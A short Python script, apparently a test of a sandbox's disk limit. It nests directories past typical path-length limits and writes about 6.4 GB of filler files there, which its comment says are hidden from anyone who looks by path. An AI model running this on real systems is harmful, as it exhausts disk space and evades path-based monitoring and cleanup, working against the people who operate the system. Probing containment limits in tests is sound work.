# Goes down into folders until no path is long enough for where it is, and fills files there, so that who looks by path sees none.
# wall: disk files
import os

for depth in range(40):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
for number in range(400):
    with open(f"file{number}", "wb") as file:
        for _ in range(16):
            file.write(b"x" * 1_000_000)
